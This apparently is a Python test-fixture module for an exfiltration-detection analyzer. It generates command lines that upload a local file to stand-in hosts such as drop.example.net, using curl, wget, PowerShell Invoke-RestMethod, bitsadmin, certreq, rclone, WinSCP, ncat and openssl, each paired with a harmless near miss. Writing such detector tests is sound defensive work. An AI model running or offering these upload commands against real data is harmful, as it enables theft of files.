"""For every entry of the analyzer's grammars and every exclusion: a true positive and a near miss of its own.

`entries()` yields (label, path, cases): `path` locates the entry in its grammar (file, keys..., element) so that
test_ablation.py can delete it; each case is (command line, image, expected kept techniques). The cases come
from fixed templates, not from the analyzer's reading of them.
"""
from __future__ import annotations

import base64
import json
from pathlib import Path

GRAMMARS = Path(__file__).resolve().parents[2] / "app" / "detection" / "analyzer" / "grammars"
FILE = r"C:\Users\jdoe\Documents\q3.7z"
URL = "https://drop.example.net/u"
T2, T3 = frozenset({"T1048.002"}), frozenset({"T1048.003"})
QUIET = frozenset()
PS = "powershell.exe"
DAV = r"\\dav.example.net@SSL\DavWWWRoot\in"


def grammar(name):
    return json.loads((GRAMMARS / f"{name}.json").read_text(encoding="utf-8"))


def ps(script, host=PS):
    return (f'{host} -NoProfile -Command "{script}"', host)


def enc(script):
    return base64.b64encode(script.encode("utf-16-le")).decode()


UP = f"Invoke-RestMethod -Uri {URL} -Method Post -InFile {FILE}"
DOWN = f"Invoke-RestMethod -Uri {URL} -OutFile {FILE}"


def _gnu(tool, name, spec, g):
    """curl/wget: the option's role decides its true positive; every option taking a value has the near miss
    where that value is an upload option (consumed, so nothing is uploaded)."""
    forms = [name] + ([spec["long"]] if "long" in spec else [])
    role = spec.get("role", "arg")
    eq = g.get("long_equals")
    for form in forms:
        join = (lambda v: [f"{form}={v}"]) if eq and form.startswith("--") else (lambda v: [form, v])
        upload = f"--post-file={FILE}" if tool == "wget" else "-T"
        after = [] if tool == "wget" else [FILE]
        def line(*words):
            return (" ".join([f"{tool}.exe", *words]), f"{tool}.exe")
        if role == "upload_file":
            method = ["--method=PUT"] if form == "--body-file" else []
            yield line(*method, *join(FILE), URL), T2
            yield line(*method, *join(FILE)), QUIET
        elif role == "form":
            yield line(*join(f"f=@{FILE}"), URL), T2
            yield line(*join("f=value"), URL), QUIET
        elif role == "data":
            yield line(*join(f"@{FILE}"), URL), T2
            yield line(*join("a=1"), URL), QUIET
        elif role == "data_urlencode":
            yield line(*join(f"blob@{FILE}"), URL), T2
            yield line(*join("q=a@b"), URL), QUIET
        elif role == "ssl_reqd":
            yield line(form, "-T", FILE, "ftp://drop.example.net/in/"), T2
            yield line("-T", FILE, "ftp://drop.example.net/in/"), T3
        elif role == "method":
            if tool == "wget":
                yield line(*join("PUT"), f"--body-file={FILE}", URL), T2
                yield line(f"--body-file={FILE}", URL), QUIET
        if role in ("arg", "method", "form_literal", "data_literal") and not (tool == "wget" and role == "method"):
            yield line(*join("v"), upload, *after, URL), T2
            yield line(form, upload, *after, URL), QUIET        # the option consumed the upload option


def gnu_entries():
    for tool in ("curl", "wget"):
        g = grammar(tool)
        for name, spec in g["options"].items():
            yield f"{tool} {name}", (tool, "options", name), _flat(_gnu(tool, name, spec, g))
        for image in g["images"]:
            yield f"{tool} image {image}", (tool, "images", image), [
                ((f"{image}.exe -T {FILE} {URL}" if tool == "curl" else f"{image}.exe --post-file={FILE} {URL}"),
                 f"{image}.exe", T2),
                (f"{image}.exe -o {FILE} {URL}", f"{image}.exe", QUIET)]


def _flat(cases):
    return [(cl, image, expect) for (cl, image), expect in cases]


TEMPLATES = {
    "Invoke-WebRequest": (f"-Uri {URL} -Method Post -InFile {FILE}", f"-Uri {URL} -OutFile {FILE}"),
    "Invoke-RestMethod": (f"-Uri {URL} -Method Post -InFile {FILE}", f"-Uri {URL} -OutFile {FILE}"),
    "Start-BitsTransfer": (f"-Source {FILE} -Destination {URL} -TransferType Upload", f"-Source {URL} -Destination {FILE}"),
    "Send-MailMessage": ("-To a@example-corp.com -Subject s -SmtpServer smtp.relay.example.net -UseSsl",
                         "-To a@example-corp.com -Subject s -SmtpServer 10.10.50.25 -UseSsl"),
    "Copy-Item": (f"-Path {FILE} -Destination {DAV}", f"-Path {DAV}\\a.docx -Destination {FILE}"),
}
POSITIONAL = {
    ("Invoke-WebRequest", "Uri"): f"{URL} -Method Post -InFile {FILE}",
    ("Invoke-RestMethod", "Uri"): f"{URL} -Method Post -InFile {FILE}",
    ("Start-BitsTransfer", "Source"): f"{FILE} -Destination {URL} -TransferType Upload",
    ("Start-BitsTransfer", "Destination"): f"-Source {FILE} {URL} -TransferType Upload",
    ("Send-MailMessage", "To"): "a@example-corp.com -Subject s -SmtpServer smtp.relay.example.net -UseSsl",
    ("Send-MailMessage", "Subject"): "-To a@example-corp.com s -SmtpServer smtp.relay.example.net -UseSsl",
    ("Send-MailMessage", "Body"): "-To a@example-corp.com -Subject s b -SmtpServer smtp.relay.example.net -UseSsl",
    ("Send-MailMessage", "SmtpServer"): "a@example-corp.com s b smtp.relay.example.net -UseSsl",
    ("Copy-Item", "Path"): f"{FILE} -Destination {DAV}",
    ("Copy-Item", "Destination"): f"-Path {FILE} {DAV}",
}


def powershell_entries():
    g = grammar("powershell")
    for image in g["host_images"]:
        yield f"host image {image}", ("powershell", "host_images", image), _flat([
            (ps(UP, f"{image}.exe"), T2), (ps(DOWN, f"{image}.exe"), QUIET)])
    for name, spec in g["host_parameters"].items():
        value = " v" if spec["takes"] == "value" else ""
        spellings = [name, spec["shortest"], *spec.get("aliases", ())]
        cases = []
        for s in spellings:
            if name == "EncodedCommand":
                cases += [((f"{PS} -{s} {enc(UP)}", PS), T2), ((f"{PS} -{s} {enc(DOWN)}", PS), QUIET)]
            elif name == "Command":
                cases += [((f'{PS} -{s} "{UP}"', PS), T2), ((f'{PS} -{s} "{DOWN}"', PS), QUIET)]
            else:
                cases += [((f'{PS} -{s}{value} -Command "{UP}"', PS), T2),
                          ((f'{PS} -{s}{value} -Command "{DOWN}"', PS), QUIET)]
        yield f"host parameter {name}", ("powershell", "host_parameters", name), _flat(cases)
    for c in g["common_parameters"]:
        value = "" if c in g["common_switches"] else " v"
        yield f"common parameter {c}", ("powershell", "common_parameters", c), _flat([
            (ps(f"{UP} -{c}{value}"), T2), (ps(f"{DOWN} -{c}{value}"), QUIET)])
    for c in g["common_switches"]:
        yield f"common switch {c}", ("powershell", "common_switches", c), _flat([
            (ps(f"Invoke-RestMethod -Uri {URL} -Method Post -{c} -InFile {FILE}"), T2),
            (ps(f"Invoke-RestMethod -Uri {URL} -{c} -OutFile {FILE}"), QUIET)])
    for cmdlet, spec in g["cmdlets"].items():
        up, down = TEMPLATES[cmdlet]
        yield f"{cmdlet}", ("powershell", "cmdlets", cmdlet), _flat([
            (ps(f"{cmdlet} {up}"), T2), (ps(f"{cmdlet} {down}"), QUIET)])
        for alias in spec.get("aliases", ()):
            yield f"{cmdlet} alias {alias}", ("powershell", "cmdlets", cmdlet, "aliases", alias), _flat([
                (ps(f"{alias} {up}"), T2), (ps(f"{alias} {down}"), QUIET)])
        for alias in spec.get("aliases_windows_powershell", ()):
            yield f"{cmdlet} Windows PowerShell alias {alias}", \
                ("powershell", "cmdlets", cmdlet, "aliases_windows_powershell", alias), _flat([
                    (ps(f"{alias} {up}"), T2), (ps(f"{alias} {up}", "pwsh.exe"), QUIET)])
        in_template = {w[1:].lower() for w in up.split() if w.startswith("-")}
        for kind in ("parameters", "switches"):
            for p in spec.get(kind, ()):
                extra = f" -{p}" + (" v" if kind == "parameters" else "")
                if p == "Form":          # a form is an upload whatever the method, unless the method is GET
                    yield f"{cmdlet} -Form", ("powershell", "cmdlets", cmdlet, kind, p), _flat([
                        (ps(f"{cmdlet} -Uri {URL} -Form @{{f=Get-Item {FILE}}}"), T2),
                        (ps(f"{cmdlet} -Uri {URL} -Method Get -Form @{{f=Get-Item {FILE}}}"), QUIET)])
                    continue
                cases = [(ps(f"{cmdlet} {up}"), T2)] if p.lower() in in_template else [(ps(f"{cmdlet} {up}{extra}"), T2)]
                cases.append((ps(f"{cmdlet} {down}{extra if p.lower() not in in_template else ''}"), QUIET))
                yield f"{cmdlet} -{p}", ("powershell", "cmdlets", cmdlet, kind, p), _flat(cases)
        for alias, target in spec.get("parameter_aliases", {}).items():
            if target.lower() in in_template:
                text = " ".join(f"-{alias}" if w.lower() == f"-{target.lower()}" else w for w in up.split())
                cases = [(ps(f"{cmdlet} {text}"), T2), (ps(f"{cmdlet} {down}"), QUIET)]
            else:
                extra = f" -{alias}" + ("" if target in spec.get("switches", ()) else " v")
                cases = [(ps(f"{cmdlet} {up}{extra}"), T2), (ps(f"{cmdlet} {down}{extra}"), QUIET)]
            yield f"{cmdlet} -{alias} (alias of -{target})", \
                ("powershell", "cmdlets", cmdlet, "parameter_aliases", alias), _flat(cases)
        for position in spec.get("positions", ()):
            yield f"{cmdlet} position {position}", ("powershell", "cmdlets", cmdlet, "positions", position), _flat([
                (ps(f"{cmdlet} {POSITIONAL[cmdlet, position]}"), T2), (ps(f"{cmdlet} {down}"), QUIET)])
    for name, value in g["enums"].items():
        if name.startswith("_"):
            continue
        for v in value:
            if name == "Method" and v == "Default":      # its prefix clashes with Delete
                cases = [(ps(f"Invoke-RestMethod -Uri {URL} -Method Dele -InFile {FILE}"), T2),
                         (ps(f"Invoke-RestMethod -Uri {URL} -Method De -InFile {FILE}"), QUIET)]
            elif name == "Method":
                cases = [(ps(f"Invoke-RestMethod -Uri {URL} -Method {v} -InFile {FILE}"), T2),
                         (ps(f"Invoke-RestMethod -Uri {URL} -Method Get -InFile {FILE}"), QUIET)]
            else:
                cases = [(ps(f"Start-BitsTransfer -Source {FILE} -Destination {URL} -TransferType {v}"), T2),
                         (ps(f"Start-BitsTransfer -Source {FILE} -Destination {URL} -TransferType Download"), QUIET)]
            yield f"enum {name} {v}", ("powershell", "enums", name, v), _flat(cases)
    for m in (k for k in g["upload_methods"] if not k.startswith("_")):
        yield f"member {m}", ("powershell", "upload_methods", m), _flat([
            (ps(f"$w = New-Object Net.WebClient; $w.{m}('{URL}', '{FILE}')"), T2),
            (ps(f"$w = New-Object Net.WebClient; $w.DownloadFile('{URL}', '{FILE}')"), QUIET)])
    winscp = ("Add-Type -Path 'C:\\\\WinSCP\\\\WinSCPnet.dll'; $o = New-Object WinSCP.SessionOptions -Property "
              "@{ Protocol = [WinSCP.Protocol]::Sftp; HostName = 'ssh.drop.example.net' }; $s = New-Object WinSCP.Session; ")
    for m in g["winscp_methods"]:
        args = "[WinSCP.SynchronizationMode]::Remote, 'C:\\\\x', '/in'" if m == "SynchronizeDirectories" else f"'{FILE}', '/in/'"
        yield f"WinSCP .NET {m}", ("powershell", "winscp_methods", m), _flat([
            (ps(winscp + f"$s.{m}({args})"), T2), (ps(winscp + f"$s.GetFiles('/out/*', 'C:\\\\x\\\\')"), QUIET)])
    smtp = "$c = New-Object System.Net.Mail.SmtpClient('{host}', 587); $c.EnableSsl = $true; "
    for m in g["mail_methods"]:
        yield f"SmtpClient {m}", ("powershell", "mail_methods", m), _flat([
            (ps(smtp.format(host="smtp.relay.example.net") + f"$c.{m}('a@b', 'c@d', 's', 'b')"), T2),
            (ps(smtp.format(host="10.10.50.25") + f"$c.{m}('a@b', 'c@d', 's', 'b')"), QUIET)])
    for r in g["file_readers"]:
        body = f"([IO.File]::{r}('{FILE}'))" if r[0].isupper() and "-" not in r and r not in ("Get-Item",) else f"({r} {FILE})"
        yield f"file reader {r}", ("powershell", "file_readers", r), _flat([
            (ps(f"Invoke-RestMethod -Uri {URL} -Method Post -Body {body}"), T2),
            (ps(f"Invoke-RestMethod -Uri {URL} -Method Post -Body ('literal')"), QUIET)])
    for m in g["upload_http_methods"]:
        yield f"upload method {m}", ("powershell", "upload_http_methods", m), _flat([
            (ps(f"Invoke-RestMethod -Uri {URL} -Method {m} -InFile {FILE}"), T2),
            (ps(f"Invoke-RestMethod -Uri {URL} -Method Get -InFile {FILE}"), QUIET)])


def tool_entries():
    g = grammar("tools")
    b = g["bitsadmin"]
    for image in b["images"]:
        yield f"bitsadmin image {image}", ("tools", "bitsadmin", "images", image), [
            (f"{image}.exe /transfer j /upload {URL} {FILE}", f"{image}.exe", T2),
            (f"{image}.exe /transfer j /download {URL} {FILE}", f"{image}.exe", QUIET)]
    yield "bitsadmin /transfer", ("tools", "bitsadmin", "transfer"), [
        (f"bitsadmin.exe /transfer j /upload {URL} {FILE}", "bitsadmin.exe", T2),
        (f"bitsadmin.exe /create /upload j", "bitsadmin.exe", QUIET)]
    for t in b["upload_types"]:
        yield f"bitsadmin {t}", ("tools", "bitsadmin", "upload_types", t), [
            (f"bitsadmin.exe /transfer j {t} {URL} {FILE}", "bitsadmin.exe", T2),
            (f"bitsadmin.exe /transfer j /download {URL} {FILE}", "bitsadmin.exe", QUIET)]
    for v in b["valued"] + b["flags"]:
        value = " x" if v in b["valued"] else ""
        yield f"bitsadmin {v}", ("tools", "bitsadmin", "valued" if value else "flags", v), [
            (f"bitsadmin.exe /transfer j /upload {v}{value} {URL} {FILE}", "bitsadmin.exe", T2),
            (f"bitsadmin.exe /transfer j /download {v}{value} {URL} {FILE}", "bitsadmin.exe", QUIET)]
    c = g["certreq"]
    for image in c["images"]:
        yield f"certreq image {image}", ("tools", "certreq", "images", image), [
            (f"{image}.exe -Post -config {URL} {FILE}", f"{image}.exe", T2),
            (f"{image}.exe -submit -config {URL} {FILE}", f"{image}.exe", QUIET)]
    for v in c["upload_verbs"]:
        yield f"certreq {v}", ("tools", "certreq", "upload_verbs", v), [
            (f"certreq.exe {v} -config {URL} {FILE}", "certreq.exe", T2),
            (f"certreq.exe -retrieve -config {URL} 42 {FILE}", "certreq.exe", QUIET)]
    yield "certreq -config", ("tools", "certreq", "destination"), [
        (f"certreq.exe -Post -config {URL} {FILE}", "certreq.exe", T2),
        (f"certreq.exe -Post {URL} {FILE}", "certreq.exe", QUIET)]
    for v in c["valued"]:
        yield f"certreq {v}", ("tools", "certreq", "valued", v), [
            (f"certreq.exe -Post {v} x -config {URL} {FILE}", "certreq.exe", T2),
            (f"certreq.exe -Post {v} -config {URL} {FILE}", "certreq.exe", QUIET)]
    for image in g["copy_tools"]["images"]:
        yield f"copy tool {image}", ("tools", "copy_tools", "images", image), [
            (f"{image}.exe C:\\data {DAV}", f"{image}.exe", T2), (f"{image}.exe {DAV} C:\\data", f"{image}.exe", QUIET)]
    for builtin in g["copy_tools"]["builtins"]:
        yield f"cmd {builtin}", ("tools", "copy_tools", "builtins", builtin), [
            (f"cmd.exe /c {builtin} {FILE} {DAV}", "cmd.exe", T2), (f"cmd.exe /c {builtin} {DAV}\\a {FILE}", "cmd.exe", QUIET)]
    w = g["winscp"]
    put = f'"open sftp://u@drop.example.net/" "put {FILE} /in/" "exit"'
    get = f'"open sftp://u@drop.example.net/" "get /out/a C:\\x\\" "exit"'
    for image in w["images"]:
        yield f"winscp image {image}", ("tools", "winscp", "images", image), [
            (f"{image} /command {put}", image, T2), (f"{image} /command {get}", image, QUIET)]
    yield "winscp /command", ("tools", "winscp", "command"), [
        (f"winscp.com /command {put}", "winscp.com", T2), (f"winscp.com /command {get}", "winscp.com", QUIET)]
    yield "winscp /upload", ("tools", "winscp", "upload_switch"), [
        (f"winscp.exe sftp://u@drop.example.net/ /upload {FILE}", "winscp.exe", T2),
        ("winscp.exe sftp://u@drop.example.net/", "winscp.exe", QUIET)]
    for verb in w["upload_commands"]:
        arg = "remote C:\\x /in" if verb == "synchronize" else f"{FILE} /in/"
        yield f"winscp {verb}", ("tools", "winscp", "upload_commands", verb), [
            (f'winscp.com /command "open sftp://u@drop.example.net/" "{verb} {arg}"', "winscp.com", T2),
            (f"winscp.com /command {get}", "winscp.com", QUIET)]
    for d in w["download_directions"]:
        yield f"winscp synchronize {d}", ("tools", "winscp", "download_directions", d), [
            (f'winscp.com /command "open sftp://u@drop.example.net/" "synchronize remote C:\\x /in"', "winscp.com", T2),
            (f'winscp.com /command "open sftp://u@drop.example.net/" "synchronize {d} C:\\x /out"', "winscp.com", QUIET)]
    for s in w["ftps_switches"]:
        yield f"winscp open {s}", ("tools", "winscp", "ftps_switches", s), [
            (f'winscp.com /command "open ftp://drop.example.net/ {s}" "put {FILE} /in/"', "winscp.com", T2),
            (f'winscp.com /command "open ftp://drop.example.net/" "put {FILE} /in/"', "winscp.com", T3)]
    r = g["rclone"]
    for image in r["images"]:
        yield f"rclone image {image}", ("tools", "rclone", "images", image), [
            (f"{image}.exe copy C:\\x remote:in", f"{image}.exe", T2), (f"{image}.exe copy remote:in C:\\x", f"{image}.exe", QUIET)]
    for verb in r["upload_commands"]:
        args = "remote:in" if verb == "rcat" else "C:\\x remote:in"
        yield f"rclone {verb}", ("tools", "rclone", "upload_commands", verb), [
            (f"rclone.exe {verb} {args}", "rclone.exe", T2), ("rclone.exe lsd remote:", "rclone.exe", QUIET)]
    for flag in r["boolean_flags"]:
        yield f"rclone {flag}", ("tools", "rclone", "boolean_flags", flag), [
            (f"rclone.exe copy {flag} C:\\x :sftp,host=drop.example.net:in", "rclone.exe", T2),
            (f"rclone.exe copy {flag} :sftp,host=drop.example.net:out C:\\x", "rclone.exe", QUIET)]
    for backend in r["encrypted_backends"]:
        yield f"rclone backend {backend}", ("tools", "rclone", "encrypted_backends", backend), [
            (f"rclone.exe copy C:\\x :{backend}:in", "rclone.exe", T2), (f"rclone.exe copy :{backend}:in C:\\x", "rclone.exe", QUIET)]
    for backend in r["plaintext_backends"]:
        yield f"rclone plain backend {backend}", ("tools", "rclone", "plaintext_backends", backend), [
            (f"rclone.exe copy C:\\x :{backend},host=drop.example.net:in", "rclone.exe", T3),
            (f"rclone.exe copy C:\\x :{backend},host=drop.example.net:in --ftp-tls", "rclone.exe", T2)]
    for flag in r["tls_flags"]:
        yield f"rclone {flag}", ("tools", "rclone", "tls_flags", flag), [
            (f"rclone.exe copy C:\\x :ftp,host=drop.example.net:in {flag}", "rclone.exe", T2),
            (f"rclone.exe copy C:\\x :ftp,host=drop.example.net:in", "rclone.exe", T3)]
    s = g["ssh_copy"]
    for image in s["images"]:
        yield f"ssh copy {image}", ("tools", "ssh_copy", "images", image), [
            (f"{image}.exe {FILE} u@drop.example.net:/in/", f"{image}.exe", T2),
            (f"{image}.exe u@drop.example.net:/out/a C:\\x", f"{image}.exe", QUIET)]
    for v in s["valued"]:
        yield f"ssh copy {v}", ("tools", "ssh_copy", "valued", v), [
            (f"pscp.exe {v} x {FILE} u@drop.example.net:/in/", "pscp.exe", T2),
            (f"pscp.exe {v} {FILE} u@drop.example.net:/in/", "pscp.exe", QUIET)]
    f = g["sftp"]
    for image in f["images"]:
        yield f"sftp image {image}", ("tools", "sftp", "images", image), [
            (f"cmd.exe /c echo put {FILE} | {image} u@drop.example.net:/in", "cmd.exe", T2),
            (f"cmd.exe /c echo get /out/a | {image} u@drop.example.net:/in", "cmd.exe", QUIET)]
    for verb in f["upload_commands"]:
        yield f"sftp {verb}", ("tools", "sftp", "upload_commands", verb), [
            (f"cmd.exe /c echo {verb} {FILE} | sftp u@drop.example.net:/in", "cmd.exe", T2),
            (f"cmd.exe /c echo ls | sftp u@drop.example.net:/in", "cmd.exe", QUIET)]
    yield from _runtime_entries(g["runtimes"])
    t = g["tls_pipes"]
    for image in t["openssl"]["images"]:
        yield f"openssl image {image}", ("tools", "tls_pipes", "openssl", "images", image), [
            (f"cmd.exe /c {image} s_client -connect drop.example.net:443 < {FILE}", "cmd.exe", T2),
            (f"cmd.exe /c {image} s_client -connect drop.example.net:443", "cmd.exe", QUIET)]
    for key in ("subcommand", "connect"):
        yield f"openssl {t['openssl'][key]}", ("tools", "tls_pipes", "openssl", key), [
            (f"cmd.exe /c openssl s_client -connect drop.example.net:443 < {FILE}", "cmd.exe", T2),
            (f"cmd.exe /c openssl s_server -accept 443 < {FILE}", "cmd.exe", QUIET)]
    for image in t["ncat"]["images"]:
        yield f"ncat image {image}", ("tools", "tls_pipes", "ncat", "images", image), [
            (f"cmd.exe /c {image} --ssl drop.example.net 443 < {FILE}", "cmd.exe", T2),
            (f"cmd.exe /c {image} --ssl drop.example.net 443", "cmd.exe", QUIET)]
    for sw in t["ncat"]["tls_switches"]:
        yield f"ncat {sw}", ("tools", "tls_pipes", "ncat", "tls_switches", sw), [
            (f"cmd.exe /c ncat {sw} drop.example.net 443 < {FILE}", "cmd.exe", T2),
            (f"cmd.exe /c ncat drop.example.net 80 < {FILE}", "cmd.exe", T3)]
    for feeder in t["feeders"]:
        yield f"pipe feeder {feeder}", ("tools", "tls_pipes", "feeders", feeder), [
            (f"cmd.exe /c {feeder} {FILE} | openssl s_client -connect drop.example.net:443", "cmd.exe", T2),
            (f"cmd.exe /c echo hi | openssl s_client -connect drop.example.net:443", "cmd.exe", QUIET)]
    for empty in t["empty_inputs"]:
        yield f"empty input {empty}", ("tools", "tls_pipes", "empty_inputs", empty), [
            (f"cmd.exe /c openssl s_client -connect drop.example.net:443 < {FILE}", "cmd.exe", T2),
            (f"cmd.exe /c openssl s_client -connect drop.example.net:443 -showcerts < {empty}", "cmd.exe", QUIET)]


def _runtime_entries(rt):
    send, read = rt["send_markers"][0], rt["file_markers"][0]
    code = f"x.{send}'{URL}', {read}'a.csv'))"
    q = lambda text: text.replace('"', '\\"')
    for kind, spec in rt.items():
        if not isinstance(spec, dict):
            continue
        switch = spec["code_switch"]
        for image in spec["images"]:
            yield f"{kind} image {image}", ("tools", "runtimes", kind, "images", image), [
                (f'{image}.exe {switch} "{code}"', f"{image}.exe", T2), (f'{image}.exe {switch} "print(1)"', f"{image}.exe", QUIET)]
        image = spec["images"][0]
        for key in ("code_switch", "alt_code_switch"):
            if key in spec:
                yield f"{kind} {spec[key]}", ("tools", "runtimes", kind, key), [
                    (f'{image}.exe {spec[key]} "{code}"', f"{image}.exe", T2), (f'{image}.exe "{code}"', f"{image}.exe", QUIET)]
        for s in spec.get("long_code_switches", ()):
            yield f"{kind} {s}", ("tools", "runtimes", kind, "long_code_switches", s), [
                (f'{image}.exe {s} "{code}"', f"{image}.exe", T2), (f'{image}.exe script.js "{code}"', f"{image}.exe", QUIET)]
        if spec.get("combine"):
            yield f"{kind} combined switches", ("tools", "runtimes", kind, "combine"), [
                (f'{image}.exe -W{switch[1]} "{code}"', f"{image}.exe", T2), (f'{image}.exe -W "{code}"', f"{image}.exe", QUIET)]
    for m in rt["send_markers"]:
        yield f"runtime send marker {m}", ("tools", "runtimes", "send_markers", m), [
            (f'python.exe -c "x.{q(m)}\'{URL}\'), open(\'a\')"', "python.exe", T2),
            (f'python.exe -c "x.get(\'{URL}\'), open(\'a\')"', "python.exe", QUIET)]
    for m in rt["file_markers"]:
        yield f"runtime file marker {m}", ("tools", "runtimes", "file_markers", m), [
            (f'python.exe -c "requests.post(\'{URL}\', data={q(m)}\'a\'))"', "python.exe", T2),
            (f'python.exe -c "requests.post(\'{URL}\', data=\'a\')"', "python.exe", QUIET)]
    for m in rt["plaintext_markers"]:
        yield f"runtime plain-text marker {m}", ("tools", "runtimes", "plaintext_markers", m), [
            (f'python.exe -c "f = {m}\'h\'); f.storbinary(\'STOR a\', open(\'a\', \'rb\'))"', "python.exe", T3),
            (f'python.exe -c "f = x.ftps(\'h\'); f.storbinary(\'STOR a\', open(\'a\', \'rb\'))"', "python.exe", T2)]
    for m in rt["tls_markers"]:
        yield f"runtime TLS marker {m}", ("tools", "runtimes", "tls_markers", m), [
            (f'python.exe -c "f = ftplib.FTP(\'h\'); {m}; f.storbinary(\'STOR a\', open(\'a\', \'rb\'))"', "python.exe", T2),
            (f'python.exe -c "f = ftplib.FTP(\'h\'); f.storbinary(\'STOR a\', open(\'a\', \'rb\'))"', "python.exe", T3)]


def entries():
    yield from gnu_entries()
    yield from powershell_entries()
    yield from tool_entries()
